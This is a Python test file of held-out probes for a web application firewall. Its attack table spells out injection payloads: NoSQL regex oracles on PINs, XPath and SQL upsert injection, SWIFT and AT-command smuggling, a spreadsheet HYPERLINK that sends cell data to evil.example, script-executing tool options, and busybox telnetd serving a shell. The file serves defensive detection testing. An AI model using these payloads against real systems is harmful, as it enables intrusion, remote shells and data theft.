"""WAF, part 2n: held-out probes, twelfth file (README: the twenty-fourth
round), written for this file on 2026-12-05 after the round's two new
held-out corpora (tests/corpus/finance/, tests/corpus/iot/) were first
replayed, for the classes they showed. No string is taken from a corpus
or a public list: each class is written here in shapes of our own,
through the real edge (shipped config, bans off).

Look-alikes that must pass, by class:
- secret-field: a field whose name holds "pin" inside a word ("spin"),
  a PIN compared for equality (a login's own check);
- xpath-axis: a location path with an axis and no quote broken out of;
- epoch-record: a Unix time in a sentence after a line break;
- iso-fields: a time stamp and fields on the value's one line;
- mt-tag: a SWIFT statement pasted whole (its first line a tag);
- sms-at: a modem's AT transcript (AT at the value's start);
- upsert: MySQL's upsert named in a sentence;
- js-condition: JavaScript's conditions with a call or "===" in them;
- formula-semicolon: a sum with ";" as the argument separator;
- option-script: a filter by a relative path, a script in /tmp named in a
  sentence;
- busybox-applet: BusyBox's banner.

Attacks that must be refused, by class:
- secret-field: a $regex on a PIN or a card's CVV (an oracle that reads
  it out a character at a time);
- xpath-axis: a quote and a predicate closed, then a step along an axis;
- epoch-record: a log record that starts with a Unix time and a colon,
  after one token and a line break;
- iso-fields: a time stamp then ";"-separated fields with key=value in a
  query value (in a JSON note too, since the twenty-eighth round);
- mt-tag: SWIFT MT field tags on lines after a payment reference;
- sms-at: an AT command after the Ctrl-Z that ends an SMS's text;
- upsert: an INSERT's list closed after a quote, then ON DUPLICATE KEY
  UPDATE of another column;
- js-condition: cmd.exe's "if (x)==(y)" after a separator;
- formula-semicolon: HYPERLINK sending a cell's value, ";" separating;
- option-script: an option given a script from /tmp or an upload
  directory (tcpdump's -z, pandoc's --lua-filter=);
- busybox-applet: BusyBox running telnetd with a shell after a line break.

Measured before the change (2026-12-05, on 0c2cd11): 14 of 30 probes
failed (the known miss aside). Attacks passed: secret-field 2 of 2,
xpath-axis 2 of 2, epoch-record 1 of 1, mt-tag 2 of 2, sms-at 2 of 2,
upsert 1 of 1, option-script 2 of 2, busybox-applet 1 of 1 (iso-fields,
js-condition and formula-semicolon were refused already, by other
rules or alternatives). Look-alikes refused: js-condition 1 of 2. After
it: every attack refused, every look-alike passes.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "secret-field": ["{\"site\": \"B7\", \"pin\": {\"$regex\": \"^3\"}}",
                     "{\"card\": \"x\", \"cvv\": {\"$regex\": \"^9\"}}"],
    "xpath-axis": ["')]/ancestor::users//hash[('a'='a", "x']/following-sibling::key[1]|//*['"],
    "epoch-record": ["node-4\n1733390400: root session opened via 198.51.100.7"],
    "iso-fields": ["Run 12\r\n2025-03-01 07:15:00;root;GRANT;role=owner"],
    "mt-tag": ["Invoice 88\r\n:59:/XX00EVIL0000000001\r\n:70:refund",
               "/RFB/7781\r\n:57A:EVILXX22XXX"],
    "sms-at": ["Door open\x1a\rAT+CMGS=\"+15550109\"\r", "ok\x1a\r\nATD+15550109;\r"],
    "upsert": ["42', 'n')  on duplicate key update  is_owner=1#"],
    "js-condition": ["x & if (1)==(1) calc.exe"],
    "formula-semicolon": ["=HYPERLINK(\"https://evil.example/c?v=\"&C4;\"open\")"],
    "option-script": ["-G 60 -z /tmp/rot.sh -w cap", "--lua-filter=/srv/app/uploads/f.lua"],
    "busybox-applet": ["gw-2\nbusybox telnetd -p 9999 -l /bin/sh"],
}

BENIGN = {
    "secret-field": ["{\"spin\": {\"$gt\": 2}}", "{\"user\": \"ann\", \"pin\": {\"$eq\": \"4821\"}}"],
    "xpath-axis": ["//chapter/ancestor::book/title"],
    "epoch-record": ["deployed\n1733390400 is the epoch of the last run"],
    "iso-fields": ["Run 12 at 2025-03-01 07:15:00;ops;role=owner, noted on one line"],
    "mt-tag": [":20:STMT0301\n:25:XX00123\n:28C:00042/001"],
    "sms-at": ["AT+CSQ\r\n+CSQ: 21,99\r\n\r\nOK"],
    "upsert": ["MySQL's upsert: on duplicate key update writes the row"],
    "js-condition": ["if (rows.length() == 0 && ok) { return; }",
                     "if (state === 'on' && level > 3) { notify(); }"],
    "formula-semicolon": ["=SUMME(B2;B9)"],
    "option-script": ["pandoc --lua-filter=filters/count.lua notes.md",
                      "Copy the script to /tmp/setup.sh and run it"],
    "busybox-applet": ["BusyBox v1.35 multi-call binary, see --help"],
}

# (the typed-break miss once listed here is refused since the twenty-eighth
# round: a dated record that names who acted, after a sentence)
KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r12_attack_refused_everywhere,
 test_heldout_r12_benign_passes) = heldout_probe_tests(
    "r12", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
